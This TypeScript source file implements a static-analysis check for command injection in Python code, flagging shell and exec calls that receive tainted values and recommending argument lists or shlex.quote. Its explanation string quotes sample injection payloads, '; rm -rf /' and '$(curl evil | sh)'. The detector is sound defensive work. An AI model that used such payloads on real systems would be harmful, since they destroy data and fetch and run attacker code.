import type { ArgumentFact, CallFact } from "../../python/facts.js";
import type { ModuleInfo, ProjectIndex } from "../../python/project-index.js";
import { namesRead, requestSources } from "../../python/names-read.js";
import { defineCheck } from "../define.js";
import { type TaintAnalysis, type TaintOrigin, taintOf } from "../taint.js";
import type { Report } from "../types.js";
import { BUILT_STRING_KINDS as BUILT, type SinkArgument, type SinkCall, describeOrigin, sinkCalls, sinkEvidence } from "./sinks.js";
import { interpolatedParts, splitTopLevel } from "./sql-injection.js";

/** Run their argument through a shell, always. */
const SHELL_ALWAYS = /^(os\.system|os\.popen[234]?|subprocess\.getoutput|subprocess\.getstatusoutput|commands\.getoutput|asyncio\.create_subprocess_shell|asyncio\.subprocess\.create_subprocess_shell)$/;
/** Run through a shell when `shell=True`. */
const SHELL_OPTIONAL = /^subprocess\.(run|call|check_call|check_output|Popen)$/;
/** Quoting for the shell: what is formatted in stays one word. */
const QUOTED = /\b(shlex\.quote|pipes\.quote|shlex\.join|quote)\s*\(/;

/** Run a program named by their argument, without a shell: dangerous when the client names the program. */
const PROGRAM_FIRST = /^(os\.exec(l|le|lp|lpe|v|ve|vp|vpe)|os\.posix_spawnp?|asyncio\.create_subprocess_exec|asyncio\.subprocess\.create_subprocess_exec)$/;
const PROGRAM_SECOND = /^os\.spawn(l|le|lp|lpe|v|ve|vp|vpe)$/;
/** A command line run by a remote shell. */
const REMOTE_SHELL = /^paramiko(\.client)?\.SSHClient\.exec_command$/;

/** A shell run as a program (`bash`, `/bin/sh`): with `-c`, the argument after it is a command line. */
const SHELL_PROGRAM = /^[rbuRBU]{0,2}(["'])(\/usr)?(\/bin\/)?(ba|z|da|k|c|fi)?sh\1$/;
/** asyncio event loops' own process methods, called on a loop object: the protocol factory comes first. */
const LOOP_SHELL = /\.subprocess_shell$/;
const LOOP_EXEC = /\.subprocess_exec$/;

/** The elements of a list or tuple as written, or the text itself. */
function elementsOf(arg: ArgumentFact): string[] {
  if (arg.kind !== "list" && arg.kind !== "tuple") return [arg.text];
  return splitTopLevel(arg.text.trim().replace(/^[[(]|[\])]$/g, ""), ",").map((e) => e.trim()).filter(Boolean);
}

/**
 * The command line a shell started as a program runs: `["bash", "-c", cmd]`, `os.execl("/bin/sh", "sh", "-c", cmd)`,
 * `os.spawnl(os.P_WAIT, "/bin/bash", "-c", cmd)`. Null when the program is not a literal shell or there is no `-c`.
 */
export function shellCommandLine(call: CallFact, resolved: string): string | null {
  const positional = call.args.filter((a) => a.name === null);
  // where the program is named: after the mode of os.spawn*, after the protocol factory of loop.subprocess_exec
  const skip = PROGRAM_SECOND.test(resolved) || LOOP_EXEC.test(call.callee) ? 1 : 0;
  const argv = positional.slice(skip).flatMap(elementsOf);
  const program = argv[0];
  if (!program || !SHELL_PROGRAM.test(program)) return null;
  const flag = argv.findIndex((a, i) => i > 0 && /^[rbuRBU]{0,2}(["'])-c\1$/.test(a));
  return flag > 0 ? (argv[flag + 1] ?? null) : null;
}

function usesShell(call: CallFact): boolean {
  return call.args.some((a) => a.name === "shell" && a.value === true);
}

function sinkFor(resolved: string, call: CallFact): SinkArgument | null {
  if (LOOP_SHELL.test(call.callee)) return { position: 1, keyword: "cmd" };
  if (LOOP_EXEC.test(call.callee)) return { position: 1, keyword: "program" };
  if (SHELL_ALWAYS.test(resolved)) return { position: 0, keyword: resolved.endsWith("system") ? "command" : "cmd" };
  if (REMOTE_SHELL.test(resolved)) return { position: 0, keyword: "command" };
  if (SHELL_OPTIONAL.test(resolved)) return { position: 0, keyword: "args" };
  if (PROGRAM_FIRST.test(resolved)) return { position: 0, keyword: "path" };
  if (PROGRAM_SECOND.test(resolved)) return { position: 1, keyword: "file" };
  return null;
}

/** Programs named at run time that the service itself chooses: its own interpreter, a lookup on PATH, a setting. */
const TRUSTED_PROGRAM = /^(sys\.executable|shutil\.which\(.*\)|settings\.\w+|([A-Za-z_]\w*\.)*[A-Z][A-Z0-9_]*)$/;

/** The program a call without a shell runs, as written: the string, or the first element of a list. */
function programText(arg: ArgumentFact): string | null {
  if (arg.kind === "list" || arg.kind === "tuple") return /^[[(]\s*[rbuf]*["']/i.test(arg.text) ? null : (arg.items?.[0] ?? null);
  // a literal names a fixed program; a string built from values, run without a shell, is one broken program name
  if (arg.kind === "string" || BUILT.has(arg.kind)) return null;
  return arg.text;
}

/** Without a shell, only the program is dangerous: the whole string, or the first element of a list. */
function programOrigin(taint: TaintAnalysis, sink: SinkCall): TaintOrigin | undefined {
  const { arg } = sink;
  if (arg.kind !== "list" && arg.kind !== "tuple") return sink.origin;
  const first = programText(arg);
  if (first === null) return undefined;
  const program: ArgumentFact = { name: null, text: first, kind: /^[A-Za-z_]\w*$/.test(first) ? "name" : "other", reads: namesRead(first), sources: requestSources(first) };
  return taint.argument(sink.mod, sink.call, program);
}

/**
 * A literal, a module constant, or a string built only from constants and numbers. With the enclosing function: also a
 * local name that nothing but a literal is assigned to (`cmd = 'echo "hi"'`): not a parameter, and no assignment in the
 * function reads a value into it.
 */
export function isConstantText(index: ProjectIndex, mod: ModuleInfo, arg: ArgumentFact, enclosing?: string | null): boolean {
  if (arg.kind === "string" || arg.kind === "number") return true;
  if (arg.kind === "name" && enclosing && literalLocal(index, mod, enclosing, arg.text)) return true;
  // nothing but literals: `["sh", "-c", "/bin/ls"]`, `"/bin/chown " + "*"`
  if (namesRead(arg.text).length === 0 && requestSources(arg.text).length === 0) return true;
  const constantName = (expr: string) => /^([A-Za-z_]\w*\.)*[A-Z][A-Z0-9_]*$/.test(expr) || (/^[A-Za-z_][\w.]*$/.test(expr) && index.constantValue(`#${expr}`, mod.name) != null) || /^\d+$/.test(expr);
  if (arg.kind === "name" || arg.kind === "attribute") return constantName(arg.text);
  if (arg.kind === "fstring" || arg.kind === "concat" || arg.kind === "format" || arg.kind === "percent") {
    const parts = interpolatedParts(arg.text, arg.kind);
    return parts.length > 0 && parts.every(constantName);
  }
  return false;
}

/**
 * A name of function `enclosing` bound only to literals: no parameter of that name, no flow into it (extraction keeps a
 * flow for every assignment that reads a name, request data or a call, and none for `cmd = "ls -l"`).
 */
function literalLocal(index: ProjectIndex, mod: ModuleInfo, enclosing: string, name: string): boolean {
  const fn = index.functions.get(`${mod.name}.${enclosing}`);
  if (!fn || fn.fact.params.some((p) => p.name === name)) return false;
  return !mod.facts.flows.some((f) => f.enclosing === enclosing && f.targets.includes(name));
}

export default defineCheck({
  id: "SEC004",
  area: "security",
  title: "Command injection",
  severity: "high",
  kind: "concern",
  confidence: "high",
  why: "A shell command line built from values lets any of them end the command and start another (`; rm -rf /`, `$(curl evil | sh)`): whoever controls the value runs programs as the service, with its credentials and network.",
  recommendation: "Pass the program and its arguments as a list without a shell (`subprocess.run([\"convert\", src, dst], check=True)`), so each value stays one argument; where a shell is unavoidable, quote every value with `shlex.quote`. Prefer a library over a program where one exists (Pillow over ImageMagick's CLI).",
  example: { bad: 'os.system(f"convert {upload_path} {thumb_path}")', good: 'subprocess.run(["convert", upload_path, thumb_path], check=True, timeout=30)' },
  references: ["https://cwe.mitre.org/data/definitions/78.html", "https://docs.python.org/3/library/subprocess.html#security-considerations", "https://owasp.org/Top10/A03_2021-Injection/"],
  effort: "S",
  libraries: ["shlex", "subprocess"],
  cwe: "CWE-78",
  owasp: "A03:2021",
  run(input) {
    const reports: Report[] = [];
    const taint = taintOf(input.model, input.index);
    for (const sink of sinkCalls(input, sinkFor)) {
      const { arg, call } = sink;
      const programOnly = PROGRAM_FIRST.test(sink.resolved) || PROGRAM_SECOND.test(sink.resolved) || LOOP_EXEC.test(call.callee) || (SHELL_OPTIONAL.test(sink.resolved) && !usesShell(call));
      // a shell started as a program with `-c`: what follows the flag is a command line, run as with shell=True
      const commandLine = programOnly ? shellCommandLine(call, sink.resolved) : null;
      if (commandLine !== null) {
        const line: ArgumentFact = { name: null, text: commandLine, kind: lineKind(commandLine), reads: namesRead(commandLine), sources: requestSources(commandLine) };
        shellReport(input.index, reports, { ...sink, arg: line, origin: taint.argument(sink.mod, call, line) }, `${call.callee}(${shortProgram(call)} -c …)`);
        continue;
      }
      if (programOnly) {
        // no shell: only a program the client names is a command it chooses
        const program = programOrigin(taint, sink);
        const where = call.enclosing ? ` in ${call.enclosing}` : "";
        if (program) reports.push({ message: `${call.callee}()${where} runs a program the client names, from ${describeOrigin(program)}.`, evidence: sinkEvidence({ ...sink, origin: program }) });
        else {
          const named = programText(arg);
          if (named && !isConstantText(input.index, sink.mod, { name: null, text: named, kind: /^[A-Za-z_][\w.]*$/.test(named) ? (named.includes(".") ? "attribute" : "name") : "other" }) && !TRUSTED_PROGRAM.test(named)) {
            reports.push({ message: `Review: ${call.callee}()${where} runs the program \`${named}\`, chosen at run time; no request data reaches it in this analysis, but whoever sets it chooses what runs.`, evidence: sinkEvidence(sink), severity: "low", confidence: "low" });
          }
        }
        continue;
      }
      shellReport(input.index, reports, sink, SHELL_OPTIONAL.test(sink.resolved) ? `${call.callee}(shell=True)` : `${call.callee}()`);
    }
    return reports;
  },
});

/** A command line a shell runs: high when request data reaches it, a low review when it is built from other values. */
function shellReport(index: ProjectIndex, reports: Report[], sink: SinkCall, how: string): void {
  const { arg, call, origin } = sink;
  if (isConstantText(index, sink.mod, arg, call.enclosing)) return;
  const where = call.enclosing ? ` in ${call.enclosing}` : "";
  if (QUOTED.test(arg.text)) {
    reports.push({ message: `Review: ${how}${where} runs a command line built from values quoted with shlex.quote; a list of arguments without a shell removes the need.`, evidence: sinkEvidence(sink), severity: "low", confidence: "medium" });
    return;
  }
  if (origin) {
    reports.push({ message: `${how}${where} runs a shell command built from data the client controls, from ${describeOrigin(origin)}.`, evidence: sinkEvidence(sink) });
    return;
  }
  reports.push({
    message: `Review: ${how}${where} runs a shell command ${BUILT.has(arg.kind) ? "built from" : "from"} \`${arg.text.length > 60 ? `${arg.text.slice(0, 60)}…` : arg.text}\`; no request data reaches it in this analysis, but any value that can contain shell syntax becomes a command.`,
    evidence: sinkEvidence(sink),
    severity: "low",
    confidence: "low",
  });
}

/** How a command line written as text is built, for the messages and the constant test. */
function lineKind(text: string): ArgumentFact["kind"] {
  if (/^[rbuRBU]?[fF][rbRB]?["']/.test(text)) return "fstring";
  if (/^[rbuRBU]{0,2}["']/.test(text)) return /["']\s*\.format\(/.test(text) ? "format" : /["']\s*%/.test(text) ? "percent" : /\+/.test(text) ? "concat" : "string";
  return /^[A-Za-z_]\w*$/.test(text) ? "name" : /^[A-Za-z_][\w.]*$/.test(text) ? "attribute" : "other";
}

/** `bash` for a message, from the shell the call starts. */
function shortProgram(call: CallFact): string {
  const shell = call.args.flatMap(elementsOf).find((a) => SHELL_PROGRAM.test(a)) ?? "sh";
  return shell.replace(/^[rbuRBU]{0,2}["']|["']$/g, "");
}
